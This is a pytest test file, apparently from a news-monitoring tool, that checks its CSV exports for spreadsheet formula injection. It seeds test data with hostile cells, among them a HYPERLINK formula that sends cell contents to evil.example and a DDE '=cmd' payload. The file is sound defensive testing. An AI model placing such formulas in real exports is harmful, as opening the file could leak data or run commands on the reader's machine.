"""E8: every table that the desk and the command line write, with a formula in every foreign field.

Which tables there are is read off the policy, the lists and the commands, so that nobody can add
one that is not looked at here.
"""

import csv
import io
import re
from datetime import date
from pathlib import Path

import hostile_lab
import listed_lab
import pytest
import report_lab as lab
import typer
from desk_client import seated
from typer.testing import CliRunner

import marsad
from marsad import alerting
from marsad.cli.app import app as command
from marsad.collect import sources
from marsad.model import Claim, Event, Outlet, sign
from marsad.share import readers
from marsad.store import Seen, desk_accounts, desk_audit
from marsad.store.desk import Desk
from marsad.store.digests import Digests
from marsad.track import PICTURES
from marsad.web import app
from marsad.web.policy import POLICY
from marsad.web.views import life_lists
from marsad.web.views.lists import LISTS

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULAS = [
    LINK, "+1+1|cmd", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1",
    "=cmd|' /C calc'!A0", '"=1+1"', "'=1+1", "a\n=1+1",
]  # fmt: skip
SIGNS = tuple("=+-@＝＋－＠|%")
PLACES = ("telegram:first", "telegram:after")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
FILES = re.compile(r"\{form\}|csv|/pictures/\{name\}")
OTHERS = {
    "/network/file/{form}": "graphs", "/report/{handle:path}/file/{form}": "reports",
    "/case/{name}/snapshot/{number}/file": "a snapshot, in JSON",
}  # fmt: skip
"""Files of other forms, and what they hold instead."""
ASKED = {
    "brief": "about=2024-05-14", "voices": "about=talks", "answers": "about=talks",
    "told": "about=bank", "similar": f"id=near-ab&sha256={listed_lab.PICTURE}",
    "narratives": "since=2024-05-01&most=200", "audit": "what=lab", "places": "q=*", "": "q=*",
}  # fmt: skip


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    with lab.fill(tmp_path_factory.mktemp("tables") / "lab") as store:
        store.add(lab.report(store, title=LINK, series=LINK), by=LINK)
        hostile_lab.fill(store, FORMULAS)
        hostile_lab.fill_work(store, FORMULAS)
        listed_lab.fill(store, LINK)
        store.add(Outlet("odd", LINK, LINK, LINK, places=PLACES[:1]))
        store.add(
            Event("odd", LINK, date(2024, 5, 15), date(2024, 5, 15), LINK, LINK, actors=(LINK,))
        )
        sources.add(store, {"origin": "https://evil.example/x", "handle": "odd", "notes": LINK,
                            "collector": "feed", "affiliation": LINK}, lab.WRITER)  # fmt: skip
        answer = Claim(hostile_lab.post(0, LINK).id, "answers-event", "talks", 0.8)
        store.add(sign(answer, LINK, listed_lab.NOON))
        alerting.add(store, "-odd", "=HYPERLINK", ["page"], LINK)
        with store.write() as writer:
            writer.quarantine(LINK, LINK, LINK)
        with Desk(store.lab) as desk:
            desk_accounts.add(desk, LINK, "analyst", "", LINK)
            desk_audit.read(desk, LINK, LINK, LINK, LINK)
            desk_audit.did(desk, LINK, LINK, LINK)
        made = readers.add(store, "", "a@b.example", lab.WRITER)
        Digests(store).put([(made.handle, LINK, 1)], "2024-05-15T00:00:00+00:00")
        store.checkpoint()
        Seen(store).catch_up()
        yield store


@pytest.fixture(scope="module")
def desk(store):
    return seated(app(store.lab), "admin")


def rows(said):
    return list(csv.reader(io.StringIO(said.removeprefix("\ufeff"), newline="")))


def obeyed(said):
    """The cells that a spreadsheet would take for a formula; a number is none."""
    return [cell for row in rows(said) for cell in row
            if (cell[:1] in tuple("\t\r\n") or cell.lstrip().startswith(SIGNS))
            and not NUMBER.fullmatch(cell)]  # fmt: skip


def known():
    """What may stand in each part of the address of a table."""
    of_lives = [*life_lists._LISTS, "outlets"]
    return {
        "/lists/{name}/{form}": [{"name": name} for name in LISTS],
        "/outlets/list/{name}/{form}": [{"name": name} for name in ("outlets", "places")],
        "/outlets/{id:path}/list/{name}/{form}": [{"id": "odd", "name": n} for n in of_lives],
        "/places/{id:path}/list/{name}/{form}":
            [{"id": id, "name": n} for n in of_lives for id in PLACES],
        "/pictures/{name}": [{"name": f"{name}.csv"} for name in PICTURES],
        "/case/{name}/file/{form}": [{"name": f"case-{n}"} for n in range(len(FORMULAS))],
        "/report/{handle:path}/file/{form}": [{"handle": "daily-7"}],
        "/event/{id:path}/csv": [{"id": "talks"}, {"id": "odd"}],
    }  # fmt: skip


def tables_of(desk, row):
    """Every table that the route of a row gives."""
    for said in known().get(row.path, [{}]):
        of = said.get("name", "audit" if row.path.startswith("/audit") else "").partition(".")[0]
        parts = {"form": "csv", **said}
        path = re.sub(r"\{(\w+)[^}]*\}", lambda part, parts=parts: parts[part[1]], row.path)
        queries = [f"what={what}" for what in ("reads", "accounts", "lab")]
        for query in queries if of == "audit" else [ASKED.get(of, "event=talks")]:
            answer = desk.get(f"{path}?{query}")
            if answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"):
                yield f"{path}?{query}", answer.content.decode()


READING = [row for row in POLICY if row.method == "GET" and FILES.search(row.path)]


@pytest.mark.parametrize("row", READING, ids=lambda row: row.path)
def test_no_table_of_the_desk_holds_a_formula(desk, row):
    told = dict(tables_of(desk, row))
    assert bool(told) != (row.path in OTHERS), "a table that this test does not ask for"
    for address, said in told.items():
        assert not obeyed(said), address
    hostile = [address for address, said in told.items() if "'=" in said or "' " in said]
    assert hostile or row.path in OTHERS, "nothing hostile stands in it, so nothing was shown"


def test_every_list_is_asked_for_and_its_foreign_fields_are_hostile(desk):
    asked = {row.path: dict(tables_of(desk, row)) for row in READING}
    lists = asked["/lists/{name}/{form}"] | asked["/audit/file/{form}"]
    plain = []
    for name, each in LISTS.items():
        said = [table for address, table in lists.items() if f"{each.home or '/lists'}" in address
                and (each.home or f"/{name}/" in address)]  # fmt: skip
        assert said, name
        plain += [] if any("HYPERLINK" in table for table in said) else [name]
    # What is ours alone: parts of the program, and readers, of whom no word leaves the desk.
    assert plain == ["parts", "readers"]


COMMANDS = {
    "case export": ["--to", "csv", "--out", "OUT", "--by", "Tamar Iseri", "case-0"],
    "code export": ["--csv"],
    "sources export": ["--to", "csv"],
    "track event export": ["--form", "csv"],
    "track event show": ["--csv", "talks"],
    "track picture": ["volume", "--out", "OUT"],
    "translate export": ["--to", "csv", "--out", "OUT"],
}
READ_ONLY = {"track event import"}
"""What speaks of CSV and reads it."""


def commands(group, before=()):
    """The options of every command there is, by the words it is called with."""
    for name, each in group.commands.items():
        if hasattr(each, "commands"):
            yield from commands(each, (*before, name))
        else:
            yield " ".join((*before, name)), each.params


def test_every_command_that_writes_a_table_is_run_here():
    every = dict(commands(typer.main.get_command(command)))
    told = {name for name, params in every.items()
            if any("csv" in f"{one.opts} {getattr(one, 'help', '')}".casefold()
                   for one in params if one.param_type_name == "option")}  # fmt: skip
    assert told == set(COMMANDS) | READ_ONLY


@pytest.mark.parametrize("name", COMMANDS)
def test_no_table_of_a_command_holds_a_formula(store, tmp_path, name):
    out = tmp_path / "out.csv"
    said = [str(out) if each == "OUT" else each for each in COMMANDS[name]]
    first, *words = name.split()
    # A group is told the lab before the name of its command.
    done = CliRunner().invoke(command, [first, str(store.lab), *words, *said])
    assert done.exit_code == 0, done.output
    written = out.read_bytes().decode() if out.exists() else done.stdout
    assert len(rows(written)) > 1
    assert not obeyed(written)
    assert "'=" in written or name == "track event show", "nothing hostile stands in it"


def test_tables_are_written_in_one_place():
    source, found = Path(marsad.__file__).parent, []
    for path in source.rglob("*.py"):
        if re.search(r"csv\.(writer|DictWriter)", path.read_text(encoding="utf-8")):
            found.append(path.relative_to(source).as_posix())
    assert found == ["text/cells.py"]
